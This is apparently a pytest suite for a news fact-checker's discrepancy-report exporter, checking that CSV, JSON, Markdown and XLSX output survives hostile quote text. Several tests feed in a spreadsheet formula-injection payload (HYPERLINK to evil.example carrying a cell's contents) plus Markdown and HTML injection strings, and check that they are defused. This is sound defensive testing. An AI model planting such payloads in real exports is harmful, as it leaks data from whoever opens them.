"""Discrepancy reports as pure functions over hand-built flags (no spaCy):
the column contract, review status, and CSV / JSON / Markdown that survive
hostile source text (commas, newlines, curly quotes, formulas, Markdown)."""
from __future__ import annotations

import io
import json
import math

import pytest

from checker.model import Claim, Decision, Flag, Quantity
from checker.report import COLUMNS, flag_rows, status_of, to_csv, to_json, to_markdown, write_report

EXPECTED_COLUMNS = [
    "flag_id", "code", "severity", "status", "metric", "message",
    "source_a", "outlet_a", "published_a", "line_a", "quote_a", "value_a",
    "source_b", "outlet_b", "published_b", "line_b", "quote_b", "value_b",
    "reviewer", "decided_at", "note",
    "confidence", "fact", "figure_a", "col_a", "figure_b", "col_b",
]

NASTY = (
    "He said, “35 to 40 hostages”, then: \"more, later\";\n"
    "a second line\twith a tab — and ‘single curly quotes’, é, 人质"
)


def claim(source_id="a.txt", sentence="Hamas would free 35 to 40 hostages.", low=35.0, high=40.0,
          kind="range", surface="35 to 40", line=3, col=7, outlet="Axios", published="2024-02-11",
          **kw) -> Claim:
    q = Quantity(low=low, high=high, kind=kind, unit="hostage", surface=surface, start=10, end=18,
                 concept="hostage", **kw)
    return Claim(source_id=source_id, quantity=q, sentence=sentence, line=line, col=col, counted="hostage",
                 event="free", outlet=outlet, published=published, date=published)


def make_flag(a: Claim | None = None, b: Claim | None = None, code="CK101", severity="medium",
              metric="hostages_released", message="Axios says 35 to 40; Bloomberg says 26") -> Flag:
    a = a or claim()
    b = b or claim(source_id="b.txt", sentence="Hamas would free 26 hostages.", low=26.0, high=26.0,
                   kind="exact", surface="26", line=9, col=1, outlet="Bloomberg", published="2024-01-31")
    return Flag(code=code, severity=severity, metric=metric, claims=[a, b], message=message, rule="numeric")


def read_csv(text: str):
    pd = pytest.importorskip("pandas")
    return pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)


# ------------------------------------------------------------------ columns


def test_columns_are_the_documented_order():
    assert COLUMNS == EXPECTED_COLUMNS


def test_flag_rows_keys_are_the_columns_in_order():
    rows = flag_rows([make_flag()], {})
    assert len(rows) == 1
    assert list(rows[0]) == EXPECTED_COLUMNS


@pytest.mark.parametrize("rows", [[], None], ids=["no flags", "one flag"])
def test_csv_header_is_the_columns_in_order(rows):
    rows = flag_rows([make_flag()], {}) if rows is None else rows
    text = to_csv(rows)
    assert text.splitlines()[0] == ",".join(EXPECTED_COLUMNS)
    assert list(read_csv(text).columns) == EXPECTED_COLUMNS
    assert len(read_csv(text)) == len(rows)


def test_flag_rows_values_of_an_open_flag():
    f = make_flag()
    (row,) = flag_rows([f], {})
    a, b = f.claims
    assert row["flag_id"] == f.id and len(f.id) == 16
    assert (row["code"], row["severity"], row["status"], row["metric"]) == ("CK101", "medium", "open",
                                                                         "hostages_released")
    assert row["message"] == f.message
    assert (row["source_a"], row["outlet_a"], row["published_a"], row["line_a"]) == ("a.txt", "Axios",
                                                                                     "2024-02-11", 3)
    assert (row["source_b"], row["outlet_b"], row["published_b"], row["line_b"]) == ("b.txt", "Bloomberg",
                                                                                     "2024-01-31", 9)
    assert row["quote_a"] == a.sentence and row["quote_b"] == b.sentence
    assert row["value_a"] == a.quantity.value_text() == "35–40 hostage"
    assert row["value_b"] == b.quantity.value_text() == "26 hostage"
    assert (row["reviewer"], row["decided_at"], row["note"]) == ("", "", "")


def test_flag_rows_undated_and_unknown_outlet_are_empty_cells():
    f = make_flag(a=claim(outlet=None, published=None))
    (row,) = flag_rows([f], {})
    assert row["outlet_a"] == "" and row["published_a"] == ""


def test_flag_rows_keep_the_flags_order():
    flags = [make_flag(code=f"CK10{i}") for i in (3, 1, 2)]
    assert [r["code"] for r in flag_rows(flags, {})] == ["CK103", "CK101", "CK102"]
    assert [r["flag_id"] for r in flag_rows(flags, {})] == [f.id for f in flags]


# ------------------------------------------------------------------ status and decisions


def test_a_decision_fills_status_reviewer_time_and_note():
    f = make_flag()
    d = Decision(f.id, "confirmed", "Ada", note="checked with the wire copy", time="2024-02-12T09:30:00.000000Z",
                 evidence_hash=f.evidence_hash)
    other = make_flag(code="CK102")
    rows = flag_rows([f, other], {f.id: d})
    assert rows[0]["status"] == "confirmed"
    assert rows[0]["reviewer"] == "Ada"
    assert rows[0]["decided_at"] == "2024-02-12T09:30:00.000000Z"
    assert rows[0]["note"] == "checked with the wire copy"
    # a decision on one flag does not leak into another
    assert (rows[1]["status"], rows[1]["reviewer"], rows[1]["decided_at"], rows[1]["note"]) == ("open", "", "", "")


@pytest.mark.parametrize("status", ["confirmed", "dismissed", "follow-up"])
def test_status_of_marks_changed_evidence(status):
    f = make_flag()
    assert status_of(f, None) == "open"
    assert status_of(f, Decision(f.id, status, "x", evidence_hash=f.evidence_hash)) == status
    # a decision recorded without an evidence hash (older ledgers) is taken as is
    assert status_of(f, Decision(f.id, status, "x")) == status
    assert status_of(f, Decision(f.id, status, "x", evidence_hash="stale")) == f"{status} (evidence changed)"


def test_evidence_changes_when_a_value_changes_and_the_row_says_so():
    before = make_flag()
    d = Decision(before.id, "dismissed", "x", evidence_hash=before.evidence_hash)
    # same quote and surface (same flag id), but the figure now reads differently
    after = make_flag(a=claim(low=36.0, high=40.0))
    assert after.id == before.id and after.evidence_hash != before.evidence_hash
    assert flag_rows([before], {before.id: d})[0]["status"] == "dismissed"
    assert flag_rows([after], {after.id: d})[0]["status"] == "dismissed (evidence changed)"


def test_reopened_flag_is_plain_open():
    f = make_flag()
    assert status_of(f, Decision(f.id, "open", "x", evidence_hash="stale")) == "open"


# ------------------------------------------------------------------ CSV


def nasty_flag() -> Flag:
    a = claim(sentence=NASTY, outlet="Outlet, Inc. “Daily”")
    b = claim(source_id="dir with space/b, c.txt", sentence="Officials said \"26\", not 35.\nNew line.",
              low=26.0, high=math.inf, kind="lower", surface="more than 26", outlet="Bloomberg")
    return make_flag(a, b, message="Quotes differ: “35 to 40”, vs \"26\"\nsee both")


def test_csv_round_trips_through_pandas():
    f = nasty_flag()
    d = Decision(f.id, "follow-up", "Zoë, the reviewer", note="call them; “later”\nline two",
                 time="2024-02-12T09:30:00.000000Z", evidence_hash=f.evidence_hash)
    rows = flag_rows([f, make_flag(code="CK102")], {f.id: d})
    frame = read_csv(to_csv(rows))
    assert list(frame.columns) == EXPECTED_COLUMNS
    assert len(frame) == 2
    for i, row in enumerate(rows):
        for col in EXPECTED_COLUMNS:
            assert frame.iloc[i][col] == str(row[col]), (i, col)
    assert frame.iloc[0]["quote_a"] == NASTY
    assert frame.iloc[0]["value_b"] == "> 26 hostage"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
@pytest.mark.parametrize("column", ["quote_a", "quote_b", "message", "outlet_a", "note", "reviewer"])
def test_csv_defuses_formulas_in_text_cells(prefix, column):
    payload = prefix + 'HYPERLINK("http://evil.example/?d="&A1,"click")'
    a, b = claim(), claim(source_id="b.txt", surface="26", low=26.0, high=26.0, kind="exact")
    if column == "quote_a":
        a.sentence = payload
    elif column == "quote_b":
        b.sentence = payload
    elif column == "outlet_a":
        a.outlet = payload
    f = make_flag(a, b, message=payload if column == "message" else "plain message")
    d = Decision(f.id, "dismissed", payload if column == "reviewer" else "x",
                 note=payload if column == "note" else "")
    frame = read_csv(to_csv(flag_rows([f], {f.id: d})))
    assert frame.iloc[0][column] == "'" + payload
    # the other cells are left alone
    assert frame.iloc[0]["flag_id"] == f.id


def test_csv_defuses_formulas_in_source_paths():
    """A file name is text from the corpus too: `=cmd.txt` or `@wire/001.txt`
    must not run as a formula when the report is opened in a spreadsheet."""
    payload = '=HYPERLINK("http://evil.example","x").txt'
    f = make_flag(claim(source_id=payload))
    frame = read_csv(to_csv(flag_rows([f], {})))
    assert frame.iloc[0]["source_a"] == "'" + payload


def test_json_keeps_formula_text_as_is():
    payload = "=HYPERLINK(\"http://x\")"
    f = make_flag(claim(sentence=payload))
    rows = flag_rows([f], {})
    assert json.loads(to_json(rows))[0]["quote_a"] == payload  # JSON is data, not a spreadsheet
    assert rows[0]["quote_a"] == payload  # only the CSV rendering adds the apostrophe


# ------------------------------------------------------------------ JSON


def test_json_parses_and_has_the_same_rows():
    f = nasty_flag()
    d = Decision(f.id, "confirmed", "Ada", note="ok", time="2024-02-12T09:30:00.000000Z")
    rows = flag_rows([f, make_flag(code="CK102")], {f.id: d})
    text = to_json(rows)
    parsed = json.loads(text)
    assert parsed == rows
    assert [list(r) for r in parsed] == [EXPECTED_COLUMNS] * 2
    assert "“" in text  # written as UTF-8, not \u escapes
    assert json.loads(to_json([])) == []


# ------------------------------------------------------------------ Markdown


def _unescaped(text: str, ch: str) -> int:
    """How many times `ch` occurs not preceded by an escaping backslash."""
    count, i = 0, 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        count += text[i] == ch
        i += 1
    return count


HOSTILE_MD = "35 | 40 hostages [link](http://x) <b>bold</b> *em* `code` \\ end\nsecond line"


def hostile_md_rows():
    f = make_flag(claim(sentence="Quote | [link](http://x) here", outlet="Out|let [x](http://y)"),
                  message=HOSTILE_MD, metric="metric|with [brackets]")
    return flag_rows([f, make_flag(code="CK102")], {})


def test_markdown_table_survives_pipes_brackets_and_newlines():
    md = to_markdown(hostile_md_rows())
    lines = md.splitlines()
    assert lines[0] == "# Discrepancy report (2 flags)"
    header = lines.index("| flag_id | severity | code | status | metric | message |")
    table = lines[header:header + 4]
    assert table[1].startswith("|---|")
    for line in table:
        assert line.startswith("| ") or line.startswith("|---")
        assert _unescaped(line, "|") == 7, line  # six cells, no cell split by a quoted pipe
    for line in lines:
        assert _unescaped(line, "[") == 0 and _unescaped(line, "]") == 0, line
        assert _unescaped(line, "<") == 0, line
    assert "http://x" in md  # the text is kept, only made inert


def test_markdown_renders_to_a_table_without_links():
    markdown_it = pytest.importorskip("markdown_it")
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(to_markdown(hostile_md_rows()))
    assert html.count("<table>") == 1
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    rows = body.split("<tr>")[1:]
    assert len(rows) == 2
    assert all(r.count("<td") == 6 for r in rows), body
    assert "<a " not in html and "<b>" not in html and "<em>" not in html and "<code>" not in html
    assert "35 | 40 hostages [link](http://x)" in html


# ------------------------------------------------------------------ write_report


@pytest.mark.parametrize("fmt", ["csv", "json", "md"])
def test_write_report_is_atomic_and_replaces(tmp_path, fmt):
    path = tmp_path / "reports" / f"out.{fmt}"  # the folder is created
    rows = flag_rows([nasty_flag()], {})
    write_report(rows, path, fmt)
    path.write_text("old", encoding="utf-8")
    write_report(rows, path, fmt)
    assert sorted(p.name for p in path.parent.iterdir()) == [path.name]  # no .tmp left behind
    data = path.read_bytes()
    if fmt == "csv":
        assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, so spreadsheets read UTF-8
        text = data.decode("utf-8-sig")
        assert text == to_csv(rows)
        pd = pytest.importorskip("pandas")
        frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
        assert list(frame.columns) == EXPECTED_COLUMNS  # the BOM does not leak into the first name
        assert frame.iloc[0]["quote_a"] == NASTY
    else:
        assert not data.startswith(b"\xef\xbb\xbf")
        text = data.decode("utf-8")
        assert text == (to_json(rows) if fmt == "json" else to_markdown(rows))
        if fmt == "json":
            assert json.loads(text) == rows
    assert "“" in text and "人质" in text


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_failed_write_keeps_the_old_report_and_leaves_no_temp_file(tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    good = flag_rows([make_flag()], {})
    write_report(good, path, fmt)
    before = path.read_bytes()
    bad = [dict(good[0], quote_a="lone surrogate \ud800 cannot be encoded")]
    with pytest.raises(UnicodeError):
        write_report(bad, path, fmt)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [path.name]


def test_unwritable_report_path_is_a_user_error(tmp_path):
    """A report that cannot be written is one clear error (exit 2 in the CLI), not a traceback."""
    from checker.errors import UserError

    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where a folder should be")
    with pytest.raises(UserError, match="cannot write the report"):
        write_report([], blocker / "out.csv", "csv")


# ------------------------------------------------------------------ notes and decisions are separate facts


def test_report_shows_the_latest_note_and_the_decision_in_force(tmp_path):
    from checker.ledger import Ledger

    f, other = make_flag(), make_flag(code="CK102")
    led = Ledger(tmp_path / "decisions.jsonl")
    led.note(f.id, "Ada", "ask the wire desk")  # a note typed before any decision
    led.decide(f.id, "confirmed", "Bo", evidence_hash=f.evidence_hash)
    led.decide(other.id, "dismissed", "Bo", note="rounding")
    led.undo(other.id, "Cy")  # back to open: no verdict, and no "undo" in the note
    rows = flag_rows([f, other], led.latest([f, other]), led.latest_notes([f, other]))
    assert (rows[0]["status"], rows[0]["reviewer"], rows[0]["note"]) == ("confirmed", "Bo", "ask the wire desk")
    assert rows[0]["decided_at"]
    assert (rows[1]["status"], rows[1]["reviewer"], rows[1]["decided_at"], rows[1]["note"]) == ("open", "", "", "rounding")


def test_a_reopened_flag_shows_no_reviewer_or_date():
    f = make_flag()
    d = Decision(f.id, "open", "Ada", note="reopened", time="2024-02-12T09:30:00.000000Z")
    row = flag_rows([f], {f.id: d})[0]
    assert (row["status"], row["reviewer"], row["decided_at"], row["note"]) == ("open", "", "", "reopened")


# ------------------------------------------------------------------ XLSX and format choice


def test_xlsx_is_a_real_workbook_with_text_kept_as_text(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    from checker.report import to_xlsx

    evil = claim(outlet="=HYPERLINK(\"http://x\",\"y\")", sentence="Control \x07 byte, 35 to 40 hostages.")
    rows = flag_rows([make_flag(a=evil)], {})
    path = tmp_path / "out.xlsx"
    write_report(rows, path, "xlsx")
    assert path.read_bytes()[:2] == b"PK"  # a zip container, not CSV text
    sheet = openpyxl.load_workbook(path).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == COLUMNS
    got = dict(zip(COLUMNS, values[1]))
    assert got["outlet_a"] == "=HYPERLINK(\"http://x\",\"y\")"  # the text, as text
    assert sheet.cell(row=2, column=COLUMNS.index("outlet_a") + 1).data_type == "s"
    assert got["quote_a"] == "Control \ufffd byte, 35 to 40 hostages."
    assert got["flag_id"] == rows[0]["flag_id"] and got["line_b"] == 9
    assert to_xlsx(rows)[:2] == b"PK"


@pytest.mark.parametrize("out,fmt,expected", [
    ("r.csv", None, "csv"), ("r.XLSX", None, "xlsx"), ("r.json", None, "json"), ("r.md", None, "md"),
    ("r.markdown", None, "md"), (None, None, "csv"), ("report", None, "csv"), ("r.txt", "md", "md"),
    ("r.xlsx", "xlsx", "xlsx"), (None, "json", "json"),
])
def test_report_format_from_extension_or_option(out, fmt, expected):
    from checker.report import report_format

    assert report_format(out, fmt) == expected


@pytest.mark.parametrize("out,fmt", [("r.xls", None), ("r.pdf", None), ("r.txt", None), ("r.xlsx", "csv"),
                                     ("r.csv", "json")])
def test_report_format_refuses_unknown_or_mismatched_extensions(out, fmt):
    from checker.errors import UserError
    from checker.report import report_format

    with pytest.raises(UserError) as err:
        report_format(out, fmt)
    assert "\n" not in str(err.value) and out in str(err.value)
